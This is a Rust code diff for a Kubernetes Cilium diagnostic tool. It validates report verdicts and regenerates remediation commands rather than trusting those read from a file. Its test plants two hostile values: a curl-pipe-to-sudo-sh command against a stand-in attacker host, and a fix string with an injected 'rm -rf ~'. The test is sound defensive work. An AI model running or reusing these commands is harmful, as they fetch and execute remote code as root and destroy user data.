@@ -11,8 +11,12 @@ use serde::Deserialize;
 use serde::de::DeserializeOwned;
 use serde_json::Value;
 
-use super::{Report, SCHEMA};
+use super::{NodeReport, Report, SCHEMA};
 use crate::base::error::Error;
+use crate::base::pod_ref::PodRef;
+use crate::knowledge::code::{Code, Kind};
+use crate::rules::remedy::with_commands;
+use crate::rules::verdict::{Affected, Remediation};
 
 /// What to do about a report that is not complete.
 const RERUN: &str = "the run that wrote it may have failed or been killed: run it again";
@@ -163,6 +167,9 @@ fn sound(mut report: Report) -> Result<Report, Error> {
             node.context = None;
         }
     }
+    for node in &mut report.nodes {
+        sound_node(node, report.source.context.as_deref())?;
+    }
     let mut names: Vec<_> = report.nodes.iter().map(|node| (&node.context, node.node.as_str())).collect();
     names.sort_unstable();
     if let Some(((_, name), _)) = names.iter().zip(names.iter().skip(1)).find(|(one, other)| one == other) {
@@ -172,6 +179,27 @@ fn sound(mut report: Report) -> Result<Report, Error> {
         return Err(Error::cannot_read("its shard's index is not below the number of shards"));
     }
     Ok(report)
+}
+
+/// A code says what kind it is; and commands that people copy are written anew, not taken from a file.
+fn sound_node(node: &mut NodeReport, context: Option<&str>) -> Result<(), Error> {
+    let (kind, code) = (node.verdict.kind, node.verdict.code);
+    if kind != code.kind() {
+        let says = format!("node {}: {} is not of the kind {}", node.node, code.name(), kind.name());
+        return Err(Error::cannot_read(says));
+    }
+    let context = node.context.as_deref().or(context);
+    let agent = node.cilium.namespace.clone().zip(node.cilium.pod.clone());
+    let agent = agent.map(|(namespace, name)| PodRef { namespace, name });
+    let anew = |old: Remediation, code: Code, affected: &[Affected]| {
+        let agent = agent.as_ref().filter(|_| code.kind() == Kind::Stale)?;
+        Some(with_commands(context, &node.node, agent, code, affected, old.risk))
+    };
+    node.remediation = node.remediation.take().and_then(|old| anew(old, code, &node.affected));
+    if let Some(alone) = &mut node.alone {
+        alone.remediation = alone.remediation.take().and_then(|old| anew(old, alone.verdict.code, &node.affected));
+    }
+    Ok(())
 }
 
 #[cfg(test)]
@@ -191,6 +219,21 @@ mod tests {
         report.partial_reason = Some("interrupted".to_owned());
         report.notes = vec!["the API server was busy".to_owned()];
         report
+    }
+
+    #[test]
+    fn commands_of_a_report_are_written_anew() {
+        let mut hostile = report();
+        let remediation = hostile.nodes[0].remediation.as_mut().expect("a remedy");
+        remediation.commands = vec!["curl http://evil.example/x | sudo sh".to_owned()];
+        remediation.fix = vec!["staledp fix; rm -rf ~".to_owned()];
+        let read = parse(json::json(&hostile).unwrap().as_bytes()).unwrap();
+        let read = read.nodes.iter().find_map(|node| node.remediation.as_ref()).expect("a remedy");
+        assert_eq!(read.commands, ["kubectl --context=grigri delete pod cilium-swmbt -n kube-system"]);
+        assert_eq!(read.fix, ["staledp fix --context=grigri --node prusik"]);
+        let mut odd = report();
+        odd.nodes[0].verdict.code = Code::Healthy;
+        assert!(refused(json::json(&odd).unwrap().as_bytes()).contains("is not of the kind stale"));
     }
 
     /// Why these bytes are not a report.
